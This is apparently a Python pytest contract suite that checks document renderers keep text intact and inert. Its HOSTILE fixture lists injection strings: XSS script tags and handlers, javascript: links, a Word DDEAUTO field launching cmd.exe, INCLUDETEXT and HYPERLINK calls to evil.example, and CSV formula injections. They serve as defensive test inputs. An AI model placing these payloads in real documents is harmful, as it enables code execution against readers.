"""The contract every renderer passes, shipped for embedders writing their own renderers.

Subclass `RendererContract` in a pytest test module, say how to make the renderer, how to
read back the text a person would see, and what "inert" means in the format; every test here
then runs against it::

    from devcycle.testing.renderer_contract import RendererContract

    class TestMyPdfRenderer(RendererContract):
        def make_renderer(self):
            return MyPdfRenderer()

        def extract_text(self, data: bytes) -> str:
            return my_pdf_to_text(data)

        def assert_inert(self, data: bytes) -> None:
            assert b"/JavaScript" not in data

The suite covers every element type, empty sections and blocks, long text, Unicode names,
right-to-left text, hostile text (script tags, event handlers, ``javascript:`` links, Word
field codes, CSV formulas) and reproducibility, plus a Hypothesis property over generated
documents. It needs the ``test`` extra (pytest, Hypothesis).

.. versionadded:: 0.1
"""

from __future__ import annotations

import abc
import re
from datetime import date

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from devcycle.document import (
    Block,
    BulletList,
    Chart,
    ChartKind,
    Checklist,
    ChecklistItem,
    Document,
    Field,
    Note,
    NoteKind,
    Paragraph,
    Section,
    Series,
    Signatory,
    SignatureBlock,
    Table,
)
from devcycle.render.base import Renderer

__all__ = [
    "HOSTILE",
    "RTL",
    "UNICODE_NAMES",
    "RendererContract",
    "documents",
    "every_element_document",
    "hostile_document",
    "normalise",
    "plain_texts",
]

HOSTILE: tuple[str, ...] = (
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(2)">click me</a>',
    "[click](javascript:alert(3))",
    '" onmouseover="alert(4)',
    "</style><script>alert(5)</script>",
    '{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" }',
    '{ INCLUDETEXT "http://evil.example/x" }',
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "<!-- comment --> <![CDATA[x]]> &amp; &lt;b&gt;",
    "**not bold** _not em_ `not code` # not a heading | not | a | table |",
    "Teaching C# ##",
    "not a heading\n===\n---\n1) not a list\n+ not an item\n    not code",
)
"""Text users might type that must appear as typed and never act: every format checks these."""

UNICODE_NAMES: tuple[str, ...] = (
    "Zoë Ñúñez-Ó'Brien",
    "Siobhán Ní Dhómhnaill",
    "Łukasz Wróbel",
    "Ђорђе Петровић",
    "李小龙",
    "Nguyễn Thị Minh Khai",
    "Ayşe Çelik",
    "Ngāti Pōneke 🧑‍🏫",
)
"""Names in many scripts, accents and an emoji with a zero-width joiner."""

RTL: tuple[str, ...] = ("مريم العلي", "יעל כהן", "Notes: مراجعة منتصف العام in English")
"""Right-to-left text (Arabic, Hebrew) and mixed-direction text."""

_WHITESPACE = re.compile(r"\s+")


def normalise(text: str) -> str:
    """Collapse every run of white space to one space and strip the ends."""
    return _WHITESPACE.sub(" ", text).strip()


def every_element_document(*, title: str = "Every element") -> Document:
    """Return a document using every block type, including empty ones and nesting."""
    return Document(
        title=title,
        subtitle="Anna Patel, Year 4",
        header=(Field("School", "Oakfield Primary"), Field("Reviewer", "Tom Brennan")),
        audience="reviewee",
        footer="Confidential: staff development record",
        kind="contract:every-element",
        body=(
            Section(
                "Objectives",
                id="objectives",
                blocks=(
                    Paragraph("Two objectives were agreed.\nBoth link to the plan."),
                    BulletList(("Reading for pleasure", "Maths fluency")),
                    BulletList(("First", "Second"), ordered=True),
                    Field("Deadline", "31 March 2027"),
                    Field("Impact", hint="What difference did it make for pupils?", lines=3),
                    Table(
                        ("Objective", "RAG", "Reason"),
                        (("Reading", "Green", "On track"), ("Maths", "Amber", "Late start")),
                        caption="Progress",
                        row_headers=True,
                    ),
                    Checklist(
                        (
                            ChecklistItem("Success criteria", done=True),
                            ChecklistItem("Linked CPD", done=False, note="None linked yet"),
                            ChecklistItem("Priority link"),
                        ),
                        title="Checks",
                    ),
                    Note("Both sides may add to this record."),
                    Note("Check-in overdue.", kind=NoteKind.WARNING),
                    Chart(
                        "RAG by team",
                        ("KS1", "KS2"),
                        (Series("Green", (3, 5), colour="#3b8b3b"), Series("Red", (1, 0))),
                        alt="KS2 has five green objectives and no red; KS1 has one red.",
                        kind=ChartKind.STACKED_BAR,
                        unit="objectives",
                        caption="As of 1 February 2027",
                    ),
                    Chart(
                        "Hours", ("Meetings", "CPD"), (Series("Hours", (2.5, 12)),), alt="More CPD."
                    ),
                    Section("Nested", (Paragraph("Inside a nested section."),)),
                ),
            ),
            Section("Empty section", id="empty"),
            Section(
                "Private notes",
                (Note("For the reviewer only.", kind=NoteKind.CONFIDENTIAL),),
                restricted_to=("reviewer", "headteacher"),
                new_page=True,
            ),
            Section(
                "Empty blocks",
                (
                    BulletList(()),
                    Table(("Nothing",)),
                    Checklist(()),
                    SignatureBlock(()),
                ),
            ),
            Section(
                "Signatures",
                (
                    SignatureBlock(
                        (
                            Signatory("Reviewee", "Anna Patel", date(2027, 7, 8)),
                            Signatory("Reviewer", "Tom Brennan"),
                        ),
                        statement="We agree this is an accurate record.",
                    ),
                ),
            ),
        ),
    )


def hostile_document() -> Document:
    """Return a document with every `HOSTILE` string in every kind of text slot."""
    blocks: list[Block] = []
    for index, text in enumerate(HOSTILE):
        blocks.extend(
            (
                Paragraph(text),
                Field(text, text),
                BulletList((text,)),
                Table((text, "b"), ((text, text),), caption=text),
                Checklist((ChecklistItem(text, note=text),), title=text),
                Note(text),
                SignatureBlock((Signatory(text, text),), statement=text),
                Chart(text, (text,), (Series(text, (1,)),), alt=text, caption=text),
                Section(text, (Paragraph(f"hostile {index}"),)),
            )
        )
    return Document(
        title=HOSTILE[0],
        subtitle=HOSTILE[1],
        header=(Field(HOSTILE[2], HOSTILE[3]),),
        footer=HOSTILE[4],
        body=(Section("Hostile text", tuple(blocks)),),
    )


def plain_texts(min_size: int = 0, max_size: int = 60) -> st.SearchStrategy[str]:
    """Text a user might type: any printable characters, spaces and line breaks."""
    return st.text(
        st.characters(blacklist_categories=("Cs", "Cc", "Co", "Cn"), max_codepoint=0x2FFFF)
        | st.sampled_from("\n <>&\"'*_#|`[]()\\!-+=@"),
        min_size=min_size,
        max_size=max_size,
    )


def _labels() -> st.SearchStrategy[str]:
    return plain_texts(1).filter(lambda s: bool(s.strip()))


@st.composite
def _charts(draw: st.DrawFn) -> Chart:
    categories = draw(st.lists(plain_texts(0, 20), min_size=0, max_size=4))
    values = st.floats(min_value=0, max_value=1e6, allow_nan=False, allow_infinity=False)
    series = draw(
        st.lists(
            st.builds(
                Series,
                _labels(),
                st.lists(values, min_size=len(categories), max_size=len(categories)),
            ),
            min_size=1,
            max_size=3,
        )
    )
    return Chart(
        draw(_labels()),
        categories,
        series,
        alt=draw(_labels()),
        kind=draw(st.sampled_from(ChartKind)),
    )


@st.composite
def _tables(draw: st.DrawFn) -> Table:
    columns = draw(st.lists(plain_texts(0, 20), min_size=1, max_size=4))
    rows = draw(
        st.lists(
            st.lists(plain_texts(0, 30), min_size=len(columns), max_size=len(columns)), max_size=4
        )
    )
    return Table(columns, rows, caption=draw(plain_texts(0, 20)), row_headers=draw(st.booleans()))


def _leaf_blocks() -> st.SearchStrategy[Block]:
    return st.one_of(
        st.builds(Paragraph, plain_texts()),
        st.builds(BulletList, st.lists(plain_texts(0, 30), max_size=4), ordered=st.booleans()),
        st.builds(
            Field, _labels(), plain_texts(), lines=st.integers(0, 3), hint=plain_texts(0, 20)
        ),
        _tables(),
        st.builds(
            Checklist,
            st.lists(
                st.builds(
                    ChecklistItem,
                    _labels(),
                    st.none() | st.booleans(),
                    plain_texts(0, 20),
                ),
                max_size=3,
            ),
            title=plain_texts(0, 20),
        ),
        st.builds(
            SignatureBlock,
            st.lists(st.builds(Signatory, _labels(), plain_texts(0, 20)), max_size=3),
            statement=plain_texts(0, 40),
        ),
        st.builds(Note, _labels(), st.sampled_from(NoteKind)),
        _charts(),
    )


def documents() -> st.SearchStrategy[Document]:
    """Generate documents with arbitrary text in every slot and sections nested up to 3 deep."""
    blocks = st.recursive(
        _leaf_blocks(),
        lambda inner: st.builds(
            Section,
            _labels(),
            st.lists(inner, max_size=4),
            new_page=st.booleans(),
            restricted_to=st.lists(st.sampled_from(("reviewer", "headteacher")), max_size=2),
        ),
        max_leaves=8,
    )
    return st.builds(
        Document,
        _labels(),
        st.lists(blocks, max_size=4),
        subtitle=plain_texts(0, 30),
        header=st.lists(st.builds(Field, _labels(), plain_texts(0, 30)), max_size=3),
        footer=plain_texts(0, 30),
    )


class RendererContract(abc.ABC):
    """The tests every renderer passes. Subclass it in a test module and fill in three methods.

    Class attributes: ``long_text_size`` sets how long the long-text test's paragraph is;
    ``property_examples`` caps the Hypothesis examples of the property (None: the profile's).
    """

    long_text_size: int = 50_000
    property_examples: int | None = 40

    @abc.abstractmethod
    def make_renderer(self) -> Renderer:
        """Return a new renderer to test."""

    @abc.abstractmethod
    def extract_text(self, data: bytes) -> str:
        """Return the text a person reading *data* would see (any layout; order kept)."""

    @abc.abstractmethod
    def assert_inert(self, data: bytes) -> None:
        """Fail if *data* holds anything that could execute: scripts, handlers, fields, links."""

    # ---------------------------------------------------------------- helpers

    def render(self, document: Document) -> bytes:
        """Render *document* with a new renderer, checking the result is bytes."""
        data = self.make_renderer().render(document)
        assert isinstance(data, bytes)
        assert data
        return data

    def assert_shows(self, document: Document, texts: tuple[str, ...] | list[str]) -> bytes:
        """Render *document* and check each of *texts* appears in what a reader sees."""
        data = self.render(document)
        seen = normalise(self.extract_text(data))
        missing = [t for t in texts if normalise(t) not in seen]
        assert not missing, f"not shown: {missing!r}"
        return data

    # ------------------------------------------------------------------ tests

    def test_declares_name_media_type_and_suffix(self) -> None:
        renderer = self.make_renderer()

        assert renderer.name
        assert "/" in renderer.media_type
        assert renderer.suffix.startswith(".")

    def test_renders_every_element_type(self) -> None:
        document = every_element_document()

        self.assert_shows(
            document,
            [
                "Every element",
                "Anna Patel, Year 4",
                "Oakfield Primary",
                "Two objectives were agreed.",
                "Maths fluency",
                "31 March 2027",
                "What difference did it make for pupils?",
                "Late start",
                "None linked yet",
                "Check-in overdue.",
                "KS2 has five green objectives and no red; KS1 has one red.",
                "Inside a nested section.",
                "For the reviewer only.",
                "We agree this is an accurate record.",
                "Tom Brennan",
            ],
        )

    def test_the_same_document_gives_the_same_bytes(self) -> None:
        document = every_element_document()

        assert self.render(document) == self.make_renderer().render(every_element_document())

    def test_an_empty_document_renders(self) -> None:
        self.assert_shows(Document("Nothing here"), ["Nothing here"])

    def test_empty_sections_and_blocks_render(self) -> None:
        document = Document(
            "Empty",
            body=(
                Section("Empty one"),
                Section("Holds empties", (BulletList(()), Checklist(()), SignatureBlock(()))),
                Section("Outer", (Section("Inner empty"),)),
            ),
        )

        self.assert_shows(document, ["Empty one", "Holds empties", "Inner empty"])

    def test_long_text_is_kept_whole(self) -> None:
        words = " ".join(f"word{i}" for i in range(self.long_text_size // 8))
        rows = tuple((f"row {i}", "x" * 300) for i in range(200))
        document = Document(
            "Long", body=(Section("Long", (Paragraph(words), Table(("a", "b"), rows))),)
        )

        self.assert_shows(document, [words[-40:], "row 199"])

    def test_unicode_names_appear_as_written(self) -> None:
        document = Document(
            UNICODE_NAMES[0],
            header=tuple(Field(f"Name {i}", name) for i, name in enumerate(UNICODE_NAMES)),
            body=(Section(UNICODE_NAMES[4], (Table(("Name",), [(n,) for n in UNICODE_NAMES]),)),),
        )

        self.assert_shows(document, list(UNICODE_NAMES))

    def test_right_to_left_text_appears(self) -> None:
        document = Document(
            RTL[0],
            body=(Section(RTL[1], (Paragraph(RTL[2]), Field(RTL[1], RTL[0]))),),
            language="ar",
        )

        self.assert_shows(document, list(RTL))

    def test_hostile_text_appears_as_text_and_never_executes(self) -> None:
        data = self.assert_shows(hostile_document(), list(HOSTILE))

        self.assert_inert(data)

    def test_hostile_text_in_headings_appears_whole(self) -> None:
        # Each string sits only in a heading, so a heading that drops text cannot hide
        # behind the same string elsewhere in the document.
        for index, text in enumerate(HOSTILE):
            document = Document(text, body=(Section(f"{index}: {text}", (Paragraph("body"),)),))

            self.assert_shows(document, [text, f"{index}: {text}"])

    def test_control_characters_do_not_break_the_output(self) -> None:
        document = Document("Control\x00chars\x0b", body=(Paragraph("bell\x07 and \x1b[31m"),))

        self.assert_shows(document, ["Control", "bell"])

    def test_any_document_renders_reproducibly_showing_its_text(self) -> None:
        limit = min(self.property_examples or 10**6, settings().max_examples)

        @settings(max_examples=limit, suppress_health_check=[HealthCheck.differing_executors])
        @given(documents())
        def check(document: Document) -> None:
            data = self.render(document)

            assert data == self.make_renderer().render(document)
            seen = normalise(self.extract_text(data))
            for text in document.texts():
                assert normalise(text) in seen, f"not shown: {text!r}"
            self.assert_inert(data)

        check()
